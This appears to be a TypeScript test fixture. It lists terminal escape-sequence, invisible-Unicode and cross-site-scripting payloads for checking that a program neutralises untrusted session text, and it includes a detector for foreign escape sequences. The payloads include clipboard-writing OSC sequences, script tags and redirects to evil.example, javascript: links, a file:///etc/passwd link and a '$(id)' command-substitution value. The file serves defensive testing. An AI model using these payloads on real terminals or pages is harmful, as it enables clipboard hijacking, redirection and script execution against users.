/** What a terminal obeys. The numbers and words are those of no sequence that the program itself writes. */
const FOR_TERMINALS: readonly string[] = [
	// The clipboard, the title, the colors, links, files and notifications.
	...[
		"52;c;cHduZWQ=",
		"0;owned",
		"2;owned",
		"4;1;#123456",
		"10;#123456",
		"11;#123456",
		"104",
		"1337;File=name=b3du:b3du",
	],
	...["8;;http://evil.example", "7;file://evil/owned", "9;owned", "777;notify;owned;owned", "133;A", "99;;owned"],
	"5522;type=read:owned",
]
	.flatMap((body) => [`\x1b]${body}\x07`, `\x1b]${body}\x1b\\`, `\x9d${body}\x9c`])
	.concat([
		// Strings that end nowhere.
		...["\x1b]0;owned", "\x1bPowned", "\x1b_owned", "\x1b^owned", "\x1bXowned", "\x90owned", "\x9fowned"],
		...["\x1bPowned\x1b\\", "\x1b_Gowned\x1b\\", "\x1bP+q544e\x1b\\", "\x1bP$qm\x1b\\"],
		// The cursor, the screen, the margins, modes, reports, the printer, the window, resets.
		...["\x1b[9977;7799H", "\x9b9977;7799H", "\x1b[9977A", "\x1b[9977G", "\x1b[9J\x1b[9K", "\x1b[9977;7799r"],
		...[
			"\x1b[?1049l\x1b[?1003h",
			"\x1b[?9977h",
			"\x1b[99t",
			"\x1b[9977n",
			"\x1b[5i",
			"\x1b[!p",
			"\x1b[>9977;9c",
			"\x1b[9977b",
		],
		...[
			"\x1bc",
			"\x1b#8",
			"\x1b7\x1b8",
			"\x1bM",
			"\x1b(0",
			"\x1bN\x1bO",
			"\x1b%G",
			"\x1b[38;2;99;77;99m",
			"\x1b[8m",
			"\x0e\x0f",
		],
		// One that only appears when something in its middle is taken away.
		...["\x1b\u200b[9977A", "\x1b\x1b[9977A", "\x1b[\x1b[9977A9977B", "\x1b]\x1b]0;x\x070;owned\x07", "\x1b\n[9977A"],
	]);

/** What changes the order or the width of what stands beside it, or is not seen. */
const UNSEEN: readonly string[] = [
	...["\u202egnp.exe\u202c", "\u2066hidden\u2069", "\u061cx", "\u200ex\u200f", "\u200b", "\u2060", "\ufeff", "\u00ad"],
	...[
		"\u034f",
		"\u3164",
		"\u{e0041}\u{e0042}",
		"\ufe0f",
		"\u{1f468}\u200d\u{1f469}\u200d\u{1f467}",
		"\u0301".repeat(50),
	],
	...[
		"\r",
		"\t",
		"\n",
		"\r\n",
		"\v\f",
		"\u2028",
		"\u2029",
		"\x85",
		"\0",
		"\x7f",
		"\b\b\b\b",
		"\ud800",
		"\udc00x",
		"\uffff",
	],
	...[
		"\ue000",
		"\u{10ffff}",
		"\u{1f3fb}",
		"\u20e3",
		"x".repeat(3000),
		"界".repeat(300),
		"ﷺ\u0600",
		"{{x}}",
		"%s%n%x",
		"$(id)",
	],
];

/** What a page would obey. */
const FOR_PAGES: readonly string[] = [
	'<script>document.title="obeyed"</script>',
	"</pre></code></details></article></main><script src=http://evil.example/x></script>",
	"</script><script>alert(1)</script>",
	"<!--<script>",
	"</style><style>@import url(http://evil.example/s);</style>",
	"</title><base href=http://evil.example><meta http-equiv=refresh content='0;url=http://evil.example'>",
	'"><img src=http://evil.example/i onerror="alert(1)">',
	"'><svg onload=alert(1)>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
	'" onmouseover="alert(1)" x="',
	"' autofocus onfocus=alert(1) '",
	"[click](javascript:alert(1))",
	"[click](JaVa\tScRiPt:alert(1))",
	"[click](data:text/html,<script>alert(1)</script>)",
	"[click](vbscript:x) <javascript:alert(1)> [f](file:///etc/passwd)",
	"![x](http://evil.example/i.png)",
	"![x](data:image/svg+xml,<svg/onload=alert(1)>)",
	'[r][x]\n\n[x]: http://evil.example "t\\" onclick=alert(1)"',
	"&lt;script&gt;&#60;img src=x&#62;&quot; onload=&quot;",
	"```html\n</code></pre><script>1</script>\n```",
	"| a |\n|---|\n| <img src=http://evil.example> |",
	"<math><mtext><style><img src=x onerror=alert(1)></style>",
	"]]><![CDATA[<script>alert(1)</script>",
	"\u2028<script>\u2029",
];

/** What a session may hold to be obeyed, to hide, or to break rows, in three kinds; at most 3,000 characters each. */
export const PAYLOADS: readonly (readonly string[])[] = [FOR_TERMINALS, UNSEEN, FOR_PAGES];

/** Each way in which the program itself speaks to the terminal; of links only addresses without anything that is obeyed. */
const OWN = [
	"\\x1b\\[[\\d;]*m",
	"\\x1b\\[\\d*(?:;\\d*)?[A-HJKPX@]",
	"\\x1b\\[\\?(?:7|25|1000|1002|1003|1004|1006|1007|1049|2004|2026|2031)(?:;\\d+)*[hl]",
	"\\x1b\\[[<>=?][\\d;]*u",
	"\\x1b\\](?:1[01];|4;\\d+;)\\?\\x1b\\\\",
	"\\x1b\\]8;;[!-~]*\\x1b\\\\",
	"\\x1b\\[22;[02]t|\\x1b\\[23;[02]t",
	"\\x1b\\[>?c",
].map((form) => new RegExp(form, "g"));

/** What else a terminal obeys, and what is not seen on it. */
const FOREIGN =
	/\u034f|[\0-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff\ue000\u{e0000}-\u{e0fff}]/u;

/**
 * The first thing in what the program wrote to a terminal that it never writes of its own accord, with what stands around
 * it; undefined when there is none.
 */
export function foreignIn(written: string): string | undefined {
	// What was read of it may end inside of a sequence.
	const whole = written.replace(/\x1b(?:\[[\d;?<>=]*|\][ -~]*\x1b?)?$/, "");
	const rest = OWN.reduce((text, form) => text.replace(form, ""), whole);
	const at = FOREIGN.exec(rest)?.index;
	if (at !== undefined) {
		const code = (rest.codePointAt(at) ?? 0).toString(16);
		return `U+${code} in ${JSON.stringify(rest.slice(Math.max(0, at - 40), at + 40))}`;
	}
	// The marks of payloads that have the form of one of ours.
	const obeyed = /\x1b\[[^A-Za-z]*(?:9977|7799|38;2;99;77;99)[^A-Za-z]*[A-Za-z]/.exec(written);
	return obeyed === null ? undefined : JSON.stringify(obeyed[0]);
}
